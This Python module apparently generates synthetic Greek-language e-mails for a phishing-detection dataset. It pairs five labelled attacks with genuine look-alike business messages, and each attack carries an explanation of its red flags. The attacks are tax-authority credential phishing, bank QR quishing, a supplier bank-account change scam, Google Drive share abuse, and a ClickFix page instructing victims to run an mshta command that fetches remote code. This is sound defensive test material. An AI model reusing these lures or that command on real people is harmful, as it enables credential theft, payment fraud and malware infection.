# -*- coding: utf-8 -*-
"""Greek messages (office Thessaloniki)."""
import html as _html
from datetime import timedelta

import ids
import mime
import senders as X
from clients import EximWebmail, OutlookSMTP, Thunderbird
from infra import Msg, b64s, hexs, rdate
from people import BANK, LISTS, S, TAX
from services import SendGrid, SES, Service
from templates import alt, att, brand_alt, brand_html, brand_plain, pdf_bytes, qr_png, text

F = ids.fmt_iban
AFM_EG = TAX["example_gr"]

MAKEDONIA_SIG = """Δημήτρης Καραγιάννης
Λογιστήριο
ΜΑΚΕΔΟΝΙΑ ΤΡΑΝΣ Α.Ε. – Οδικές Μεταφορές
ΒΙ.ΠΕ. Σίνδου, Ο.Τ. 31, 570 22 Θεσσαλονίκη
Τηλ. 2310 798 440 – ΑΦΜ %s – ΔΟΥ ΦΑΕ Θεσσαλονίκης""" % TAX["makedonia"]


def gdrive(m_bounce):
    """Google Drive sharing notification infrastructure (genuine Google)."""
    def hops(m, t):
        return (["Received: by mail-sor-f73.google.com with SMTP id 6a1803df08f44-6d8f1a2b3c4sor%d.%d\n        for <%s>\n        (Google Transport Security);\n        %s"
                 % (m.rng.randrange(10 ** 6, 10 ** 7), m.rng.randrange(1, 20), m.rcpt, rdate(t, "PT", comment=True)),
                 "X-Google-Smtp-Source: AGHT+I%s" % b64s(m.rng, 50)], t + timedelta(seconds=1))
    return Service(connect=("mail-sor-f73.google.com", "mail-sor-f73.google.com", "209.85.220.73"), hops=hops,
                   msgid=lambda m: "<%s-%s@google.com>" % (hexs(m.rng, 16), hexs(m.rng, 8)),
                   boundary=lambda m, p: "000000000000" + hexs(m.rng, 16),
                   extra=[("X-Notifications", lambda m: hexs(m.rng, 12)), ("Feedback-ID", "P-10-0:C20060867:M110136315-el:gamma")],
                   order=["MIME-Version", "Reply-To", "X-Notifications", "Feedback-ID", "Message-ID", "Date",
                          "Subject", "From", "To", "__CT__"], date_zone="GMT", hcs=("UTF-8", "B", "UTF-8"))


def drive_body(sharer, sharer_mail, filename, file_id, note):
    url = "https://drive.google.com/file/d/%s/view?usp=sharing_eil_se_dm&ts=674f1e2a" % file_id
    blocks = ["**%s** (%s) κοινοποίησε το παρακάτω αρχείο:" % (sharer, sharer_mail), note, "📄 " + filename]
    footer = ("Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA\n"
              "Λάβατε αυτό το μήνυμα ηλεκτρονικού ταχυδρομείου επειδή ο/η %s κοινοποίησε ένα αρχείο μαζί σας "
              "από το Google Drive." % sharer)
    return brand_alt("Έγγραφο κοινοποιήθηκε μαζί σας", blocks, ("Άνοιγμα", url), footer, charset="UTF-8",
                     cte="quoted-printable", brand="Google Drive", color="#1a73e8", lang="el")


# ======================================================================= attacks

def a_mydata():
    url = "https://mydata-aade.gov-gr.info/login?afm=801635724&ref=MD-ASY-2026-3-1147"
    blocks = ["Αγαπητέ/ή χρήστη,",
              "Κατά τον αυτοματοποιημένο έλεγχο διασταύρωσης της πλατφόρμας myDATA εντοπίστηκαν **αποκλίσεις** μεταξύ "
              "των παραστατικών που διαβίβασε η επιχείρησή σας (ΑΦΜ %s) και των αντίστοιχων παραστατικών των "
              "αντισυμβαλλομένων για την περίοδο Ιουλίου – Σεπτεμβρίου 2026 (14 παραστατικά, συνολική αξία "
              "38.412,60 €)." % AFM_EG,
              "Σύμφωνα με τις διατάξεις του Κώδικα Φορολογικής Διαδικασίας, η μη διόρθωση εντός **5 εργάσιμων ημερών** "
              "επισύρει πρόστιμο ανά παραστατικό.",
              "Παρακαλούμε συνδεθείτε με τους κωδικούς TAXISnet για να ελέγξετε τις αποκλίσεις και να προβείτε "
              "στις απαραίτητες διορθώσεις."]
    footer = "Ανεξάρτητη Αρχή Δημοσίων Εσόδων – myDATA\nΜην απαντάτε σε αυτό το μήνυμα."
    body = brand_alt("Απόκλιση διαβιβασθέντων παραστατικών", blocks, ("Σύνδεση στο myDATA", url), footer,
                     charset="UTF-8", cte="base64", brand="ΑΑΔΕ · myDATA", color="#003476", lang="el")
    return Msg("mydata-apokliseis-taxisnet", ("ΑΑΔΕ – myDATA", "noreply@aade-mydata-gov.gr"), [S("georgiou")],
               "myDATA: Απόκλιση διαβιβασθέντων παραστατικών – Απαιτείται ενέργεια", "2026-11-16 10:33:05", body,
               SendGrid("aade-mydata-gov.gr"),
               "Tax-authority phishing in AADE/myDATA branding: 'discrepancies' in transmitted invoices, log in with "
               "TAXISnet credentials within 5 days.",
               "AADE does not e-mail login links; sender aade-mydata-gov.gr and link host gov-gr.info are not aade.gr/"
               "gov.gr; fine threat; TAXISnet credential harvesting; sent via SendGrid.", tz="EET",
               env_from="bounces+18834471-99b1-eleni.georgiou=examplegroup.eu@em2291.aade-mydata-gov.gr")


def a_piraeus_qr():
    url = "https://winbank-business.piraeus-epalitheusi.com/q/EGH-4418"
    png = qr_png(url)
    blocks = ["Αγαπητέ πελάτη,",
              "Στο πλαίσιο της εφαρμογής της Οδηγίας PSD2 και των νέων κανόνων ισχυρής ταυτοποίησης, απαιτείται "
              "επαλήθευση των στοιχείων πρόσβασης της επιχείρησής σας στο **winbank Business** έως τις **04/12/2026**.",
              "Σαρώστε τον παρακάτω κωδικό QR με την κάμερα του κινητού σας και ακολουθήστε τα βήματα. Θα χρειαστείτε "
              "τον κωδικό χρήστη (User ID), τον κωδικό πρόσβασης και τον κωδικό μιας χρήσης που θα λάβετε με SMS.",
              "Μετά την καταληκτική ημερομηνία η πρόσβαση στις συναλλαγές θα περιοριστεί προσωρινά."]
    footer = "Τράπεζα Πειραιώς Α.Ε. – Αμερικής 4, 105 64 Αθήνα\nΤο μήνυμα αυτό στάλθηκε αυτόματα."
    html = brand_html("Επαλήθευση στοιχείων winbank Business", blocks, None, brand="Τράπεζα Πειραιώς",
                      color="#f2a900", footer=footer, lang="el", img_cid="qr4418@piraeus", img_alt="QR")
    plainv = brand_plain("Επαλήθευση στοιχείων winbank Business", blocks + ["[Κωδικός QR]"], None, footer)
    body = mime.Multi("related", [
        mime.Multi("alternative", [mime.Text(plainv, "plain", "UTF-8", "base64", quote_cs=False),
                                   mime.Text(html, "html", "UTF-8", "base64", quote_cs=False)]),
        mime.Bin(png, "image/png", "qr.png", disposition="inline", cid="qr4418@piraeus")])
    relay = X.cpanel("gr-shared07.webhost-hellas.gr", "185.138.42.107", tz="EET", client_ip="91.92.128.44")
    relay["client_helo"] = "[127.0.0.1]"
    m = Msg("piraeus-winbank-qr", ("Τράπεζα Πειραιώς – winbank", "info@epiplo-kalogirou.gr"), [S("papadakis")],
            "Επαλήθευση στοιχείων winbank Business έως 04/12/2026", "2026-11-30 08:12:44", body,
            EximWebmail("epiplo-kalogirou.gr", relay, version="1.6.5"),
            "Quishing in Piraeus Bank branding: verify winbank Business access by scanning an inline QR code.",
            "Sent from a hijacked furniture shop's webmail with the bank's name as display name; QR code leads to "
            "piraeus-epalitheusi.com and asks for user ID, password and SMS OTP; deadline and restriction threat.",
            tz="EET")
    m.qr_urls = [url]
    return m


def a_makedonia_iban():
    body = """Αγαπητή κα Γεωργίου,

σας ενημερώνουμε ότι από 1η Δεκεμβρίου 2026 η εταιρεία μας μεταφέρει τη συνεργασία της στη Eurobank. Παρακαλούμε όπως ενημερώσετε το αρχείο προμηθευτών σας και εξοφλείτε εφεξής τα τιμολόγιά μας αποκλειστικά στον παρακάτω λογαριασμό:

Δικαιούχος: ΜΑΚΕΔΟΝΙΑ ΤΡΑΝΣ Α.Ε.
Τράπεζα: Eurobank
IBAN: %s
BIC: ERBKGRAA

Ο λογαριασμός στην Τράπεζα Πειραιώς κλείνει τις επόμενες ημέρες. Σας παρακαλούμε τα ανεξόφλητα τιμολόγια ΤΠΥ 2026/0871 (4.960,00 €) και ΤΠΥ 2026/0904 (3.214,40 €) να καταβληθούν στον νέο λογαριασμό έως την Παρασκευή και να μας στείλετε το αποδεικτικό με απάντηση σε αυτό το μήνυμα.

Με εκτίμηση,

%s""" % (F(BANK["fake_makedonia"]), MAKEDONIA_SIG)
    relay = {"helo": "mail.makedonia-trans.gr", "rdns": "static.214.88.201.5.clients.your-server.de",
             "ip": "5.201.88.214", "by": "mail.makedonia-trans.gr", "kind": "postfix", "client_ip": "41.216.186.73",
             "client_helo": "DESKTOP-7H2KQ0B", "client_rdns": "unknown", "tz": "EET"}
    return Msg("makedonia-trans-allagi-iban", ("Λογιστήριο ΜΑΚΕΔΟΝΙΑ ΤΡΑΝΣ", "logistirio@makedonia-trans.gr"),
               [S("georgiou")], "Αλλαγή τραπεζικού λογαριασμού – ΜΑΚΕΔΟΝΙΑ ΤΡΑΝΣ Α.Ε.", "2026-11-26 09:05:37",
               alt(body, "windows-1253", lang="EL"), OutlookSMTP("makedonia-trans.gr", relay, lang="el"),
               "Carrier impersonation: 'Makedonia Trans accounting' announces a new Eurobank account and asks for "
               "two open invoices to be paid there by Friday.",
               "Look-alike domain makedonia-trans.gr (hyphen; real: makedoniatrans.gr) on a Hetzner server, submitted "
               "from an African client IP; new bank, old account 'closing', deadline, proof of payment by reply.",
               tz="EET")


def a_clickfix():
    cmd = 'mshta https://wordonline-verify.com/v/5521 # \u2705 Επαλήθευση: Δεν είμαι ρομπότ – ID 5521'
    page = """<!DOCTYPE html>
<html lang="el"><head><meta charset="utf-8"><title>Word Online – Παραγγελία</title>
<style>body{font-family:Segoe UI,Arial,sans-serif;background:#f3f2f1;margin:0}
.bar{background:#2b579a;color:#fff;padding:12px 20px;font-size:18px}
.box{max-width:560px;margin:50px auto;background:#fff;padding:28px;box-shadow:0 1px 4px rgba(0,0,0,.2)}
pre{background:#f4f4f4;border:1px solid #ccc;padding:10px;white-space:pre-wrap}</style></head>
<body><div class="bar">Word Online</div>
<div class="box">
<h3>Το έγγραφο δεν μπορεί να εμφανιστεί</h3>
<p>Σφάλμα σύνδεσης με την υπηρεσία προβολής (0x80070643). Για να εμφανίσετε το έγγραφο
<b>Παραγγελία_Δημητρίου_12-2026.docx</b>, επαληθεύστε ότι δεν είστε ρομπότ:</p>
<ol><li>Πατήστε <b>Windows + R</b></li>
<li>Αντιγράψτε και επικολλήστε την παρακάτω γραμμή επαλήθευσης</li>
<li>Πατήστε <b>Enter</b> και ανανεώστε τη σελίδα</li></ol>
<pre>%s</pre>
<p style="font-size:12px;color:#666">Microsoft Corporation © 2026</p>
</div></body></html>
""" % _html.escape(cmd)
    body = """Καλησπέρα σας,

σας στέλνω την παραγγελία μας για το έργο στην Καλαμαριά (πλακάκια δαπέδου 60x120 και επένδυση μπάνιων). Παρακαλώ επιβεβαιώστε τιμές και διαθεσιμότητα μέχρι την Πέμπτη.

Το έγγραφο είναι στο συνημμένο (Word Online).

Ευχαριστώ,
Κώστας Δημητρίου
Δημητρίου Οικοδομικά Υλικά
Τηλ. 2310 412 087"""
    prof = Thunderbird("otenet.gr", {
        "helo": "mailgate.otenet.gr", "rdns": "mailgate.otenet.gr", "ip": "195.170.0.92", "by": "mailgate.otenet.gr",
        "kind": "postfix", "client_ip": "103.152.17.40", "client_helo": "[127.0.0.1]", "client_rdns": "unknown",
        "tz": "EET"}, lang="el")
    return Msg("clickfix-word-online-html", ("Κώστας Δημητρίου", "k.dimitriou@otenet.gr"), [S("papadakis")],
               "Παραγγελία πλακιδίων – έργο Καλαμαριά", "2026-12-01 18:27:50",
               mime.Multi("mixed", [text(body, "UTF-8", "8bit", ct_extra="format=flowed", quote_cs=False),
                                    mime.Bin(page.encode(), "text/html", "Paraggelia_Dimitriou_12-2026.html",
                                             ct_params="charset=UTF-8", fn_style="rfc2231")]),
               prof,
               "ClickFix: an 'order' with an HTML attachment imitating Word Online that tells the user to paste an "
               "mshta command into Win+R (command shown as text, host invented).",
               "Fake error + 'verify you are not a robot' instructions to run mshta with a remote URL (malware "
               "download); sent from a hijacked OTEnet consumer account submitted from an Asian IP; a Word document "
               "never needs the Run dialog.", tz="EET")


def a_gdrive_abuse():
    note = ("Καλησπέρα σας, για την ανακαίνιση των 64 δωματίων του ξενοδοχείου μας στη Χαλκιδική χρειαζόμαστε "
            "προσφορά για περίπου 4.800 m² πλακίδια. Τα σχέδια και οι ποσότητες είναι στο αρχείο. Αν το αρχείο "
            "δεν ανοίγει στο κινητό, δείτε τα εδώ: https://aegeanblue-docs.web.app/view?d=Prosfora_Chalkidiki "
            "(σύνδεση με το εταιρικό σας email).")
    body = drive_body("Aegean Blue Resort – Τμήμα Προμηθειών", "aegeanblue.procurement@gmail.com",
                      "Πρόσκληση_υποβολής_προσφοράς_Χαλκιδική.pdf", "1qZ7hK3vR9mXo2LpT6wYc4N8dFs0aBjE", note)
    return Msg("gdrive-share-rfq-phishing", ("Aegean Blue Resort – Τμήμα Προμηθειών (μέσω Google Drive)",
                                             "drive-shares-dm-noreply@google.com"), [S("papadakis")],
               "Έγγραφο κοινοποιήθηκε μαζί σας: \"Πρόσκληση_υποβολής_προσφοράς_Χαλκιδική.pdf\"", "2026-12-04 11:16:22",
               body, gdrive(None),
               "Abuse of a genuine service: a real Google Drive share notification for a hotel 'request for quotation', "
               "whose personal note links to a Firebase-hosted page asking for the company e-mail login.",
               "Headers are Google's own; the sharer is an unknown Gmail account; the note carries a second link to "
               "aegeanblue-docs.web.app and asks to sign in with the corporate mailbox (credential phishing); "
               "lucrative RFQ bait.", tz="EET",
               reply_to=("Aegean Blue Resort – Τμήμα Προμηθειών", "aegeanblue.procurement@gmail.com"),
               env_from="3hvZRZxwTCs8uvjnsvwl-qrunspu.lwtlw@doclist.bounces.google.com")


def ATTACK():
    return [a_mydata(), a_piraeus_qr(), a_makedonia_iban(), a_clickfix(), a_gdrive_abuse()]


# ======================================================================= business

def b_epsilon():
    blocks = ["Αγαπητέ πελάτη,",
              "Στη θυρίδα της επιχείρησης **EXAMPLE GROUP HELLAS Μ.Ε.Π.Ε.** (ΑΦΜ %s) παραλάβατε νέο παραστατικό μέσω "
              "παρόχου ηλεκτρονικής τιμολόγησης:" % AFM_EG,
              "Εκδότης: ΜΑΚΕΔΟΝΙΑ ΤΡΑΝΣ Α.Ε. (ΑΦΜ %s)\nΕίδος: Τιμολόγιο Παροχής Υπηρεσιών\nΑριθμός: ΤΠΥ 2026/0904\n"
              "Ημερομηνία: 13/11/2026\nΣύνολο: 3.214,40 €\nΜΑΡΚ: 400001948372615" % TAX["makedonia"],
              "Το παραστατικό έχει διαβιβαστεί στην ΑΑΔΕ (myDATA). Μπορείτε να το δείτε από τη θυρίδα σας στην "
              "εφαρμογή του παρόχου."]
    footer = "Epsilon Digital – Πάροχος Ηλεκτρονικής Τιμολόγησης πιστοποιημένος από την ΑΑΔΕ\nΑυτόματο μήνυμα ενημέρωσης."
    body = brand_alt("Παραλαβή νέου παραστατικού", blocks, None, footer, charset="utf-8", cte="base64",
                     brand="Epsilon Digital", color="#00a3e0", lang="el")
    return Msg("epsilon-digital-parastatiko", ("Epsilon Digital", "noreply@epsilondigital.gr"), [S("georgiou")],
               "Παραλαβή παραστατικού ΤΠΥ 2026/0904 – ΜΑΚΕΔΟΝΙΑ ΤΡΑΝΣ Α.Ε.", "2026-11-13 15:20:11", body,
               SES("epsilondigital.gr"),
               "Genuine notice from the company's certified e-invoicing provider that a supplier invoice (with MARK "
               "number) was received and sent to myDATA.",
               "The provider's own domain via Amazon SES; invoice data match the carrier's real invoice; no login "
               "link, no deadline.", tz="EET",
               env_from="010201c8e1f2a3b4-8e2d7c61-4a5b-4c3d-9e8f-7a6b5c4d3e2f-000000@eu-west-1.amazonses.com",
               pair=(["mydata-apokliseis-taxisnet"], "myDATA/e-invoice topic; genuine notice without login"))


def b_makedonia_timologio():
    body = """Αγαπητή κα Γεωργίου,

σας αποστέλλουμε συνημμένα το τιμολόγιο ΤΠΥ 2026/0904 της 13/11/2026 για τις μεταφορές της εβδομάδας 45 (Θεσσαλονίκη – Σέρρες – Καβάλα – Αλεξανδρούπολη), συνολικού ποσού 3.214,40 €. Το παραστατικό έχει διαβιβαστεί στο myDATA μέσω παρόχου (ΜΑΡΚ 400001948372615).

Η εξόφληση γίνεται όπως πάντα στον λογαριασμό μας στην Τράπεζα Πειραιώς:
%s

Παρακαλούμε επίσης για την εξόφληση του ΤΠΥ 2026/0871, που έληξε στις 15/11.

Με εκτίμηση,

%s""" % (F(BANK["makedonia"]), MAKEDONIA_SIG)
    inv = pdf_bytes([("ΜΑΚΕΔΟΝΙΑ ΤΡΑΝΣ Α.Ε.", 14, True), "ΒΙ.ΠΕ. Σίνδου, 570 22 Θεσσαλονίκη – ΑΦΜ " + TAX["makedonia"], "",
                     ("ΤΙΜΟΛΟΓΙΟ ΠΑΡΟΧΗΣ ΥΠΗΡΕΣΙΩΝ ΤΠΥ 2026/0904", 12, True), "Ημερομηνία: 13/11/2026   ΜΑΡΚ: 400001948372615", "",
                     "Πελάτης: EXAMPLE GROUP HELLAS Μ.Ε.Π.Ε. – ΑΦΜ " + AFM_EG, "",
                     "Μεταφορές εβδομάδας 45 (6 δρομολόγια)              2.592,26 €", "ΦΠΑ 24%                                               622,14 €",
                     ("Σύνολο                                              3.214,40 €", 11, True), "",
                     "Τρόπος πληρωμής: κατάθεση – Τράπεζα Πειραιώς " + F(BANK["makedonia"])],
                    "ΤΠΥ 2026-0904", producer="SoftOne Series 5", date="D:20261113090000+02'00'")
    return Msg("makedonia-trans-timologio", ("Λογιστήριο ΜΑΚΕΔΟΝΙΑ ΤΡΑΝΣ", "logistirio@makedoniatrans.gr"), [S("georgiou")],
               "Τιμολόγιο ΤΠΥ 2026/0904 – ΜΑΚΕΔΟΝΙΑ ΤΡΑΝΣ Α.Ε.", "2026-11-13 09:14:52",
               mime.Multi("mixed", [alt(body, "windows-1253", lang="EL"),
                                    att(inv, "application/pdf", "TPY_2026_0904.pdf", style="outlook",
                                        when="Fri, 13 Nov 2026 07:12:30 GMT")]),
               X.MAKEDONIA,
               "The Greek carrier's accounting sends an invoice (also transmitted to myDATA) and reminds of an overdue one.",
               "Real domain through the carrier's own mail server; known Piraeus account; MARK number matches the "
               "provider notice.", tz="EET",
               pair=(["makedonia-trans-allagi-iban"], "same carrier, same invoices; genuine one keeps the known account"))


def b_antoniou_order():
    body = """Καλημέρα Νίκο,

όπως τα είπαμε στο τηλέφωνο, θα ήθελα να παραγγείλω για το κατάστημα:

- Terra Sabbia 60x60, 48 κιβώτια (1,44 m² το κιβώτιο)
- Calce Grigio 30x60 τοίχου, 30 κιβώτια
- σοβατεπί Terra Sabbia, 120 τεμάχια

Παράδοση στην αποθήκη μας στην Καλαμαριά, αν γίνεται μέχρι τις 20 Νοεμβρίου. Η πληρωμή όπως πάντα με επιταγή 60 ημερών.

Στείλε μου σε παρακαλώ την προσφόρμα να την υπογράψω.

Ευχαριστώ,
Γιώργος Αντωνίου
Πλακάκια Αντωνίου
Εθνικής Αντιστάσεως 87, Καλαμαριά
Τηλ. 2310 451 220"""
    return Msg("pelatis-paraggelia-otenet", ("Γιώργος Αντωνίου", "g.antoniou@otenet.gr"), [S("papadakis")],
               "Παραγγελία για το κατάστημα Καλαμαριάς", "2026-11-05 09:41:17",
               text(body, "iso-8859-7", "8bit", ct_extra="format=flowed", quote_cs=False), X.OTENET,
               "A Greek customer places an order from his OTEnet address.",
               "Known customer, typical order content and payment terms, submitted from a Greek OTEnet residential line; "
               "no link or attachment.", tz="EET",
               pair=(["clickfix-word-online-html"], "order e-mail from an OTEnet account; genuine one has no attachment"))


def b_argia():
    body = """Αγαπητοί συνάδελφοι,

υπενθυμίζουμε ότι την Τετάρτη 28 Οκτωβρίου (εθνική εορτή) το γραφείο και η αποθήκη της Θεσσαλονίκης θα παραμείνουν κλειστά.

- Οι παραλαβές της ΜΑΚΕΔΟΝΙΑ ΤΡΑΝΣ μεταφέρονται στην Πέμπτη 29/10 από τις 07:30.
- Τα τηλέφωνα θα προωθούνται στην έκτακτη γραμμή 2310 555 190 (βάρδια: Νίκος).
- Οι παραγγελίες που θα έρθουν ηλεκτρονικά θα καταχωριστούν την Πέμπτη.

Καλή γιορτή σε όλους!

Νίκος Παπαδάκης
Διευθυντής Γραφείου Θεσσαλονίκης
Example Group Hellas Μ.Ε.Π.Ε."""
    return Msg("grafeio-kleisto-28-oktovriou", ("Nikos Papadakis", "nikos.papadakis@example.com"), [LISTS["thess"]],
               "Κλειστό το γραφείο την Τετάρτη 28/10", "2026-10-23 12:10:09", alt(body, "utf-8", "base64", lang="EL"),
               X.INT["GR"],
               "Internal notice from the Thessaloniki office manager about the 28 October holiday closure.",
               "Internal relay path (EXMBX02 → mail-int01 → mx01); informational; no links or requests.",
               rcpt=S("georgiou")[1], tz="EET")


def b_gdrive_genuine():
    note = "Νίκο, σου στέλνω την κάτοψη του νέου καταστήματος για να δεις τις ποσότητες. Τα τετραγωνικά είναι σημειωμένα ανά χώρο."
    body = drive_body("Γιώργος Αντωνίου", "g.antoniou@otenet.gr", "Κάτοψη_καταστήματος_Καλαμαριά.pdf",
                      "1Hk2pV8sQn4Tz7WcRb0YmL3xFd9aJe6Ug", note)
    return Msg("gdrive-share-katopsi-pelati", ("Γιώργος Αντωνίου (μέσω Google Drive)", "drive-shares-dm-noreply@google.com"),
               [S("papadakis")], "Έγγραφο κοινοποιήθηκε μαζί σας: \"Κάτοψη_καταστήματος_Καλαμαριά.pdf\"",
               "2026-11-04 19:02:33", body, gdrive(None),
               "Genuine Google Drive share notification: a known customer shares the floor plan of his new shop.",
               "Google's own infrastructure; the sharer is the known customer (Reply-To his OTEnet address); the only "
               "link is drive.google.com; no login request in the note.", tz="EET",
               reply_to=("Γιώργος Αντωνίου", "g.antoniou@otenet.gr"),
               env_from="3JXlZZxwTCq0mnbkfnoe-ijmfkhm.doelo@doclist.bounces.google.com",
               pair=(["gdrive-share-rfq-phishing"], "same genuine Google Drive notification format; genuine one from a known customer with no extra link"))


def BUSINESS():
    return [b_epsilon(), b_makedonia_timologio(), b_antoniou_order(), b_argia(), b_gdrive_genuine()]
